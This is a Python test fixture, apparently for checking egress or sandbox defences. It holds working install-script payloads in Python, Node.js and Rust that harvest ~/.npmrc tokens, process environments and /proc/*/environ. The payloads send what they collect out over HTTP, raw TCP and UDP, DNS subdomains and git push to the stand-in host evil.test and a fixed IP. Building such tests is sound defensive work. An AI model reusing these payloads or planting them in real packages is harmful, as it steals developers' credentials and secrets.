"""What install scripts of a stolen package do, in the languages of three ecosystems: read what a token is in, keep it
where the test can look (`/tmp/stolen`), send it away in every way there is, note what came of it (`/tmp/said`)."""

from __future__ import annotations

EVIL = "evil.test"
ADDRESS, PORT = "93.184.216.200", 4444
PUSH = (
    "cd $(mktemp -d) && git init -q . && git -c user.name=a -c user.email=a@b commit -q --allow-empty -F /tmp/stolen"
    " && git push -q https://evil.test/x HEAD:x"
)

PYTHON = r"""
import glob, json, os, socket, subprocess, urllib.request
def read(path):
    try: return open(path, "rb").read(65536).decode("latin-1")
    except OSError as error: return repr(error)
loot = {path: read(path) for path in [os.path.expanduser("~/.npmrc"), *glob.glob("/proc/[0-9]*/environ")]}
loot["environment"] = dict(os.environ)
text = json.dumps(loot)
open("/tmp/stolen", "w").write(text)
said = {}
def way(name, do):
    try: said[name] = str(do())
    except Exception as error: said[name] = type(error).__name__
def tcp():
    with socket.create_connection(("ADDRESS", PORT), 60) as s:
        s.sendall(text.encode()); return len(s.recv(99))
def udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s: return s.sendto(text.encode()[:900], ("ADDRESS", 53000))
def post(url): return urllib.request.urlopen(url, text.encode(), timeout=60).status
def push():
    subprocess.run("PUSH", shell=True, check=True)
way("http", lambda: post("http://evil.test/"))
way("https", lambda: post("https://evil.test/"))
way("address", lambda: post("http://ADDRESS/"))
way("tcp", tcp)
way("udp", udp)
way("dns", lambda: socket.getaddrinfo(text[-60:].encode().hex()[:60] + ".evil.test", 443))
way("push", push)
open("/tmp/said", "w").write(json.dumps(said))
"""

NODE = r"""
const fs = require("fs"), net = require("net"), dgram = require("dgram"), dns = require("dns"), os = require("os");
const { execSync } = require("child_process");
const read = (path) => { try { return fs.readFileSync(path, "latin1"); } catch (error) { return String(error); } };
const loot = { npmrc: read(os.homedir() + "/.npmrc"), environment: process.env };
for (const id of fs.readdirSync("/proc")) if (/^\d+$/.test(id)) loot[id] = read(`/proc/${id}/environ`);
const text = JSON.stringify(loot), said = {};
fs.writeFileSync("/tmp/stolen", text);
const way = (name, begin) =>
  new Promise((done) => begin((what) => { said[name] = String(what); done(); }));
const post = (url) => (tell) => {
  const heard = (answer) => { answer.resume(); tell(answer.statusCode); };
  const request = require(url.split(":")[0]).request(url, { method: "POST" }, heard);
  request.on("error", (error) => tell(error.code)); request.end(text);
};
const tcp = (tell) => {
  const socket = net.connect(PORT, "ADDRESS", () => socket.write(text));
  socket.on("data", (data) => tell(data.length));
  socket.on("error", (error) => tell(error.code)); socket.on("close", () => tell("closed"));
};
const udp = (tell) => {
  const socket = dgram.createSocket("udp4"), sent = (error) => { socket.close(); tell(error ? error.code : "sent"); };
  socket.send(text.slice(0, 900), 53000, "ADDRESS", sent);
};
const name = Buffer.from(text.slice(-60)).toString("hex").slice(0, 60) + ".evil.test";
const push = (tell) => {
  try { execSync("PUSH", { stdio: "ignore" }); tell(0); } catch (error) { tell(error.status); }
};
(async () => {
  await way("http", post("http://evil.test/")); await way("https", post("https://evil.test/"));
  await way("address", post("http://ADDRESS/")); await way("tcp", tcp); await way("udp", udp);
  await way("dns", (tell) => dns.lookup(name, (error, address) => tell(error ? error.code : address)));
  await way("push", push);
  fs.writeFileSync("/tmp/said", JSON.stringify(said));
})();
"""

RUST = r"""
use std::{env, fs, io::{Read, Write}, net::{TcpStream, ToSocketAddrs, UdpSocket}, process::Command};
fn main() {
    let mut loot: String = env::vars().map(|(name, value)| format!("{name}={value}\n")).collect();
    for entry in fs::read_dir("/proc").unwrap().flatten() {
        loot += &String::from_utf8_lossy(&fs::read(entry.path().join("environ")).unwrap_or_default());
    }
    loot += &fs::read_to_string(env::var("HOME").unwrap() + "/.npmrc").unwrap_or_default();
    fs::write("/tmp/stolen", &loot).unwrap();
    let mut said: Vec<(&str, String)> = vec![];
    let call = |to: &str| -> String {
        let mut answer = String::new();
        match TcpStream::connect(to) {
            Err(error) => return error.kind().to_string(),
            Ok(mut stream) => {
                let head = format!("POST / HTTP/1.1\r\nhost: evil.test\r\ncontent-length: {}\r\n\r\n", loot.len());
                let _ = stream.write_all((head + &loot).as_bytes());
                let _ = stream.read_to_string(&mut answer);
            }
        }
        answer.split(' ').nth(1).unwrap_or("closed").to_string()
    };
    said.push(("http", call("evil.test:80")));
    said.push(("https", call("evil.test:443")));
    said.push(("address", call("ADDRESS:80")));
    said.push(("tcp", call("ADDRESS:PORT")));
    let udp = UdpSocket::bind("0.0.0.0:0").unwrap();
    said.push(("udp", format!("{:?}", udp.send_to(&loot.as_bytes()[..loot.len().min(900)], "ADDRESS:53000").is_ok())));
    let hex: String = loot.bytes().rev().take(30).map(|byte| format!("{byte:02x}")).collect();
    said.push(("dns", format!("{:?}", (format!("{hex}.evil.test"), 443).to_socket_addrs().is_ok())));
    said.push(("push", Command::new("sh").args(["-c", "PUSH"]).status().unwrap().to_string()));
    let lines: Vec<String> = said.iter().map(|(name, what)| format!("{name:?}: {what:?}")).collect();
    fs::write("/tmp/said", format!("{{{}}}", lines.join(", "))).unwrap();
}
"""


def written(program: str) -> str:
    return program.replace("ADDRESS", ADDRESS).replace("PORT", str(PORT)).replace("PUSH", PUSH)
